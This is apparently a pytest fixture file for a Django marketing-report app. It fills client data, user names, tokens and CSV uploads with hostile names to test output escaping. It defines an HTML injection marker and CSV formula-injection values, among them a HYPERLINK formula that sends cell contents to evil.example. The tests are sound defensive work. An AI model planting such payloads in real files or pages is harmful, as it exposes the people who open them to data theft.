"""A client whose every name is written by somebody who means ill."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from django.test import Client as Browser

from accounts import tokens
from accounts.audit import Actor
from accounts.models import Agency, Client, Invitation, Membership, Scope, User
from accounts.tenancy import inside
from campaigns.models import Connection
from campaigns.models.origins import Campaign
from jobs import worker
from reports import scheduling, sharing
from reports.archive.models import Note
from reports.models import Schedule, ShareLink
from tests.accounts.test_gate import everyone, rows
from tests.conftest import Cast, LoadText
from tests.mail_server import MailServer
from tests.reports.company import as_csv

__all__ = ["everyone", "rows"]

SignIn = Callable[[User], Browser]
# A marker that a page parsed by a browser shows as an element or an attribute where it was not escaped.
MARKUP = "\"'><xss onx=1 style=x><!--"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
CAMPAIGNS = (f"Brand{MARKUP}", FORMULA, "@SUM(1)", "+1", "\t=1", "-2")
DAYS = "from=2026-11-02&to=2026-11-15"


@dataclass(frozen=True)
class Ill:
    """The client, a report of it that was sent, and the address of the link to that."""

    client: Client
    share: str
    unsubscribe: str
    ids: dict[str, int]


def figures() -> dict[str, str]:
    """Files of each kind, as texts, with names that are markup or formulas."""
    days = [f"2026-11-{number:02}" for number in range(1, 16)]
    return {
        "ads": as_csv([
            {"date": day, "source": "google_ads", "account": f"1{MARKUP}", "campaign": name, "channel": "paid_search",
             "impressions": 900 + number, "clicks": 30, "spend": 40 + number, "conversions": 1, "conversion_value": 90}
            for day in days for number, name in enumerate(CAMPAIGNS)
        ]),
        "leads": as_csv([
            {"lead_id": f"L{number}{MARKUP}", "created_at": f"{day}T10:00:00", "channel": "", "campaign": CAMPAIGNS[number % 6],
             "email": f"p{number}@people.example", "mql_at": f"{day}T11:00:00", "customer_id": f"C{number}{MARKUP}"}
            for number, day in enumerate(days)
        ]),
        "orders": as_csv([
            {"order_id": f"O{number}{MARKUP}", "ordered_at": f"{day}T15:00:00", "amount": 400, "campaign": CAMPAIGNS[number % 6],
             "channel": "", "customer_id": f"C{number}{MARKUP}", "product": FORMULA}
            for number, day in enumerate(days)
        ]),
        "email": as_csv([
            {"sent_at": f"{day}T08:00:00", "source": "mailchimp", "campaign_id": f"M{number}", "campaign": CAMPAIGNS[number % 6],
             "sent": 1000, "hard_bounces": 3, "soft_bounces": 2, "unique_opens": 300, "unique_clicks": 30, "unsubscribes": 1,
             "spam_complaints": 0}
            for number, day in enumerate(days)
        ]),
        "web": as_csv([
            {"date": day, "source": "ga4", "landing_page": page, "channel": "organic_search", "sessions": 200, "engaged_sessions": 90,
             "conversions": 2}
            for day in days for page in (f"/a{MARKUP}", FORMULA)
        ]),
        "social": as_csv([
            {"date": day, "source": "facebook", "account": "page", "post_id": post, "impressions": 500, "reach": 250, "likes": 20,
             "comments": 1, "shares": 2, "link_clicks": 1}
            for day in days for post in (f"post{MARKUP}", FORMULA)
        ]),
    }  # fmt: skip


@pytest.fixture
def ill(cast: Cast, rows: dict[str, int], load_text: LoadText, mail_server: MailServer) -> Ill:
    """Maison Lumen with two weeks of figures, a report that was sent, and every name that a person or a file may give."""
    with inside(cast.client):
        for kind, text in figures().items():
            load_text(cast.client, kind, text)
        Connection.objects.update(name=MARKUP)
        Campaign.objects.update(labels=[f"label{MARKUP}", FORMULA])
        Note.objects.update(text=f"Done.{MARKUP}")
        Note.objects.create(kind=Note.Kind.NEXT, period="2026-W46", text=FORMULA)
    User.objects.update(name=f"Ana{MARKUP}"[:40])
    Agency.objects.update(name=f"Nord{MARKUP}")
    Client.objects.update(name=f"Lumen{MARKUP}")
    Schedule.objects.update(name=f"Weekly{MARKUP}"[:40])
    tokens.make(cast.client, name=f"t{MARKUP}", scope=Scope.READ, days=1, by=Actor(f"by{MARKUP}", cast.owner))
    Invitation.objects.filter(client=cast.client).update(email=f"a{MARKUP}@people.example")
    client = Client.objects.select_related("agency").get(slug="lumen")
    schedule = scheduling.create_weekly(client, {"bob@lumen.example": "en"})
    Schedule.objects.filter(pk=schedule.pk).update(policy=Schedule.Policy.SEND)  # whatever is missing
    run = scheduling.open_run(schedule, "2026-W46")
    worker.work_off()
    link = sharing.make(client, run, "en", Actor("owner"))
    assert ShareLink.objects.filter(pk=link.pk, password="").exists()
    assert Membership.objects.exists()
    return Ill(client, f"/r/{sharing.token(link)}/", f"/u/{schedule.recipients.get().token}/", rows)


@pytest.fixture
def owner(cast: Cast, signed_in: SignIn) -> Any:
    return signed_in(cast.owner)
